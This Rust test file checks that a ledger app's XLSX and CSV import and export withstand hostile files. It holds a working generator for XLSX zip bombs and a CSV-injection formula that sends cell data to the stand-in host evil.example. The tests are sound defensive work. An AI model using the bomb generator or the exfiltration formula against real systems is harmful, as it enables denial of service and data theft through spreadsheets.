//! Files meant to hurt: XLSX uploads that unpack to far more than they weigh (zip bombs), refused
//! before they are unpacked and with the limit named; and text that Excel would run as a formula,
//! escaped in every CSV written and read back unchanged.

use super::ledger::{import, premise, premises_under, XLSX};
use super::*;
use flate2::{Compress, Compression, Crc, FlushCompress};
use reqwest::Method;
use xunjian_shared::api;
use xunjian_shared::ledger::ImportResult;
use xunjian_shared::premise::{CreatePremise, Premise, PremiseType};

const NS: &str = "http://schemas.openxmlformats.org/spreadsheetml/2006/main";
const REL: &str = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
const PKG: &str = "http://schemas.openxmlformats.org/package/2006/relationships";

/// A zip entry: its name, compression method (0 stored, 8 deflated), CRC-32 and size of what it
/// unpacks to, and its bytes as stored.
struct Part {
    name: &'static str,
    method: u16,
    crc: u32,
    size: u32,
    data: Vec<u8>,
}

fn stored(name: &'static str, text: &str) -> Part {
    let mut crc = Crc::new();
    crc.update(text.as_bytes());
    Part { name, method: 0, crc: crc.sum(), size: text.len() as u32, data: text.as_bytes().to_vec() }
}

/// A zip archive, written by hand: unoptimised, the zip crate takes 46 s to deflate 512 MiB.
fn zip(parts: &[Part]) -> Vec<u8> {
    let (mut out, mut central) = (Vec::new(), Vec::new());
    for p in parts {
        let offset = out.len() as u32;
        // version 2.0, no flags, method, time and date (1980-01-01), CRC, sizes, name length, no extra.
        let fields = |out: &mut Vec<u8>| {
            for v in [20u16, 0, p.method, 0, 0x21] {
                out.extend(v.to_le_bytes());
            }
            for v in [p.crc, p.data.len() as u32, p.size] {
                out.extend(v.to_le_bytes());
            }
            out.extend((p.name.len() as u16).to_le_bytes());
            out.extend(0u16.to_le_bytes());
        };
        out.extend(0x0403_4b50u32.to_le_bytes());
        fields(&mut out);
        out.extend(p.name.as_bytes());
        out.extend(&p.data);
        central.extend(0x0201_4b50u32.to_le_bytes());
        central.extend(20u16.to_le_bytes()); // made by
        fields(&mut central);
        central.extend([0; 10]); // comment length, disk, internal and external attributes
        central.extend(offset.to_le_bytes());
        central.extend(p.name.as_bytes());
    }
    let at = out.len() as u32;
    out.extend(&central);
    out.extend(0x0605_4b50u32.to_le_bytes());
    out.extend([0; 4]); // this disk, the directory's disk
    let n = (parts.len() as u16).to_le_bytes();
    out.extend(n);
    out.extend(n);
    out.extend((central.len() as u32).to_le_bytes());
    out.extend(at.to_le_bytes());
    out.extend(0u16.to_le_bytes());
    out
}

/// Deflates `input` up to a full flush: byte-aligned, referring to nothing before it, so copies of
/// it can follow each other in one stream.
fn deflate_block(z: &mut Compress, input: &[u8], flush: FlushCompress) -> Vec<u8> {
    let (before, mut out) = (z.total_in(), Vec::with_capacity(input.len() / 100 + 1024));
    z.compress_vec(input, &mut out, flush).unwrap();
    assert!(z.total_in() - before == input.len() as u64 && out.len() < out.capacity(), "all in, all out");
    out
}

/// A workbook of one sheet whose cells A1, A2, … (`cells` of them) show shared string 0: `mib` MiB of
/// `a`, deflated about 1,000 to 1. `sst` is the attributes of the shared strings' start tag.
pub fn xlsx_bomb(mib: u32, cells: u32, sst: &str) -> Vec<u8> {
    let rows: String = (1..=cells).map(|r| format!(r#"<row r="{r}"><c r="A{r}" t="s"><v>0</v></c></row>"#)).collect();
    let head = format!(r#"<sst xmlns="{NS}" {sst}><si><t>"#);
    let tail = "</t></si></sst>";
    let a_mib = vec![b'a'; 1 << 20];
    let mut z = Compress::new(Compression::best(), false);
    let mut data = deflate_block(&mut z, head.as_bytes(), FlushCompress::Full);
    let block = deflate_block(&mut z, &a_mib, FlushCompress::Full);
    let (mut crc, mut crc_mib) = (Crc::new(), Crc::new());
    crc.update(head.as_bytes());
    crc_mib.update(&a_mib);
    for _ in 0..mib {
        data.extend(&block);
        crc.combine(&crc_mib);
    }
    data.extend(deflate_block(&mut z, tail.as_bytes(), FlushCompress::Finish));
    crc.update(tail.as_bytes());
    let strings = Part { name: "xl/sharedStrings.xml", method: 8, crc: crc.sum(), size: crc.amount(), data };
    let workbook = format!(r#"<workbook xmlns="{NS}" xmlns:r="{REL}"><sheets>{SHEET}</sheets></workbook>"#);
    let sheet = format!(r#"<worksheet xmlns="{NS}"><sheetData>{rows}</sheetData></worksheet>"#);
    zip(&[
        stored("[Content_Types].xml", TYPES),
        stored("_rels/.rels", &rels(&[("officeDocument", "xl/workbook.xml")])),
        stored("xl/workbook.xml", &workbook),
        stored(
            "xl/_rels/workbook.xml.rels",
            &rels(&[("worksheet", "worksheets/sheet1.xml"), ("sharedStrings", "sharedStrings.xml")]),
        ),
        stored("xl/worksheets/sheet1.xml", &sheet),
        strings,
    ])
}

const TYPES: &str = concat!(
    r#"<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">"#,
    r#"<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>"#,
    r#"<Default Extension="xml" ContentType="application/xml"/></Types>"#
);
const SHEET: &str = r#"<sheet name="Sheet1" sheetId="1" r:id="rId1"/>"#;

/// A relationships part: rId1, rId2, … of these types and targets.
fn rels(to: &[(&str, &str)]) -> String {
    let each: String = (to.iter().enumerate())
        .map(|(i, (kind, target))| {
            format!(r#"<Relationship Id="rId{}" Type="{REL}/{kind}" Target="{target}"/>"#, i + 1)
        })
        .collect();
    format!(r#"<Relationships xmlns="{PKG}">{each}</Relationships>"#)
}

#[test]
fn the_bomb_is_a_workbook_that_unpacks_to_what_it_says() {
    use calamine::{Data, Reader, Xlsx};
    let bomb = xlsx_bomb(3, 2, r#"count="2" uniqueCount="1""#);
    let mut book: Xlsx<_> = Xlsx::new(std::io::Cursor::new(bomb)).expect("a readable XLSX");
    let range = book.worksheet_range_at(0).expect("a sheet").expect("readable");
    assert_eq!(range.get_size(), (2, 1));
    assert!(range
        .rows()
        .all(|r| matches!(&r[0], Data::String(s) if s.len() == 3 << 20 && s.bytes().all(|b| b == b'a'))));
}

both_backends!(an_xlsx_that_unpacks_to_far_more_than_it_weighs_is_refused_unread, |app| {
    let office = app.login("yishi.office").await;
    let tok = office.access_token.as_str();
    let yishi = office.user.org_chain[1].id;
    // 512 MiB in one shared string, about 0.5 MiB on the wire (the limit for the body is 5 MiB).
    let bomb = xlsx_bomb(512, 1, r#"count="1" uniqueCount="1""#);
    assert!(bomb.len() < 1 << 20, "{}", bomb.len());
    let p =
        expect_problem(import(&app, tok, yishi, "&dry_run=false", XLSX, bomb.clone()).await, 413, "payload_too_large")
            .await;
    let detail = p.detail.expect("detail");
    assert!(detail.starts_with("file: the XLSX unpacks to 512 MiB") && detail.contains("at most 24 MiB"), "{detail}");
    // A short sheet repeating a 1 MiB string in 5,000 cells: small parts, 5 GiB of text once read.
    let repeated = xlsx_bomb(1, 5000, r#"count="5000" uniqueCount="1""#);
    let p = expect_problem(import(&app, tok, yishi, "", XLSX, repeated).await, 413, "payload_too_large").await;
    assert!(p.detail.as_deref().is_some_and(|d| d.contains("more than 8 MiB of text")), "{p:?}");
    assert_eq!(premises_under(&app, tok, yishi).await.total, 24, "nothing imported");
    // The road register reads files the same way.
    let admin = app.login("admin").await.access_token;
    let r = app
        .request(Method::POST, &format!("{}?dry_run=false", api::ROADS_IMPORT), Some(&admin))
        .header("content-type", XLSX)
        .body(bomb)
        .send()
        .await
        .unwrap();
    let p = expect_problem(r, 413, "payload_too_large").await;
    assert!(p.detail.is_some_and(|d| d.contains("at most 24 MiB")));
    let roads: Vec<serde_json::Value> = expect_json(app.get(api::ROADS, &admin).await, 200).await;
    assert_eq!(roads.len(), 7, "the demo's roads, no more");
    app.stop().await;
});

/// The four cells of the report, each of a kind Excel or WPS runs when a CSV is opened.
const FORMULAS: [&str; 4] = [r#"=HYPERLINK("http://evil.example/"&A1,"x")"#, "@SUM(1+1)", "+1+1", "-2+3"];

both_backends!(text_that_starts_like_a_formula_is_escaped_in_csv_and_imports_back_unchanged, |app| {
    let office = app.login("yishi.office").await;
    let tok = office.access_token.as_str();
    let yishi = office.user.org_chain[1].id;
    let (village, grid) = super::ledger::new_village_with_one_grid(&app, tok, yishi).await;
    let [name, address, person, notes] = FORMULAS.map(String::from);
    let new = CreatePremise {
        id: None,
        grid_id: grid.id,
        name,
        premise_type: PremiseType::StreetShop,
        address,
        location: None,
        responsible_person: person,
        responsible_phone: None,
        notes,
    };
    let created: Premise = expect_json(app.send_json(Method::POST, api::PREMISES, Some(tok), &new).await, 201).await;

    let res = app.get(&format!("{}?format=csv&org_unit_id={}", api::PREMISES_EXPORT, village.id), tok).await;
    let csv = res.bytes().await.unwrap().to_vec();
    let text = std::str::from_utf8(&csv).unwrap();
    let lines: Vec<&str> = text.lines().collect();
    assert_eq!(lines.len(), 2, "{text}");
    assert_eq!(
        lines[1],
        r#"猗氏镇,新建村,一组,"'=HYPERLINK(""http://evil.example/""&A1,""x"")",沿街门店,'@SUM(1+1),'+1+1,,,,'-2+3"#
    );

    // Read back as a dry run: no errors, the name as it was, the same address as the premise.
    let res: ImportResult = expect_json(import(&app, tok, yishi, "", "text/csv", csv.clone()).await, 200).await;
    let row = &res.report.rows[0];
    assert_eq!((res.report.rows_total, row.name.as_str()), (1, FORMULAS[0]));
    assert!(row.errors.is_empty(), "{row:?}");
    assert!(row.duplicates.iter().any(|d| d.premise_id == Some(created.id) && d.same_address), "{row:?}");
    // Imported for real: every field as it was typed.
    let res: ImportResult = expect_json(import(&app, tok, yishi, "&dry_run=false", "text/csv", csv).await, 200).await;
    let copy = premise(&app, tok, res.report.rows[0].premise_id.expect("imported")).await;
    assert_ne!(copy.id, created.id);
    let fields = |p: &Premise| [p.name.clone(), p.address.clone(), p.responsible_person.clone(), p.notes.clone()];
    assert_eq!(fields(&copy), FORMULAS.map(String::from));
    assert_eq!(fields(&created), fields(&copy));
    app.stop().await;
});
